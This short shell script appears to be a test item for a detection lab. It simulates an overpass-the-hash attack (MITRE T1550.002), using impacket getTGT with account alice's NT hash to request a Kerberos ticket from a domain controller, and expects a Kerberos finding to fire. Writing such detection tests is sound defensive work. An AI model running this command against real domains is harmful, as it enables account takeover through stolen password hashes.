# SPDX-License-Identifier: Apache-2.0
# what: overpass-the-hash: a TGT got with an NT hash, by RC4, of an account that uses AES
# technique: T1550.002
# from: ws1
# to: dc1
# account: alice
# outcome: success
# must: finding krb
. "$RANGE_HERE/item.sh"
cd "$HOME"
at ws2 sh -c "echo '$USER_PASSWORD' | kinit alice" || exit 1
says 'Saving ticket' impacket getTGT -hashes ":$(nthash alice)" -dc-ip $dc1 "$DOMAIN_DNS/alice"
